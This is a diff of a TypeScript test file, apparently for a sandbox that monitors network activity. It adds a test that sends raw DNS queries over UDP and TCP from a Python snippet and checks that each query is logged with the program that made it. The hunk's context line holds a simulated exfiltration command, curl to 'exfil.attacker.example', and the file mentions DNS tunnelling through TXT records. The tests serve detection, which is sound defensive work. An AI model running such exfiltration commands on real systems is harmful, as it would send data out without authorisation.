@@ -130,6 +130,27 @@ getent hosts exfil.attacker.example; curl -sS -m 5 https://exfil.attacker.exampl
     expect(arena.resolver.questions.slice(before)).toEqual([]);
   });
 
+  it.each([
+    ['a datagram', 'SOCK_DGRAM', 'q', 'datagram.asked.example'],
+    ['a connection', 'SOCK_STREAM', "struct.pack('>H', len(q)) + q", 'connection.asked.example'],
+  ])('a question in %s is recorded with the program that asked it', async (_, type, say, name) => {
+    const since = await lastSeq();
+    await arena.inside.run(
+      `python3 - <<'P'
+import socket, struct
+q = struct.pack('>HHHHHH', 9, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in '${name}'.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
+s = socket.socket(socket.AF_INET, socket.${type}); s.settimeout(4); s.connect(('192.0.2.53', 53)); s.send(${say}); s.recv(512)
+import time; time.sleep(1)
+P`,
+    );
+    const asked = async (): Promise<readonly TimelineEvent[]> =>
+      (await arena.events()).filter(
+        (event) => event.seq > since && event.kind === 'dns' && event.name === name,
+      );
+    await expect.poll(asked, { timeout: 5000 }).toHaveLength(1);
+    expect(await asked()).toMatchObject([{ program: { command: ['python3', '-'] } }]);
+  });
+
   it('text records, which tunnels use, get no answer', async () => {
     const { stdout } = await arena.inside.run(
       `python3 - <<'P'
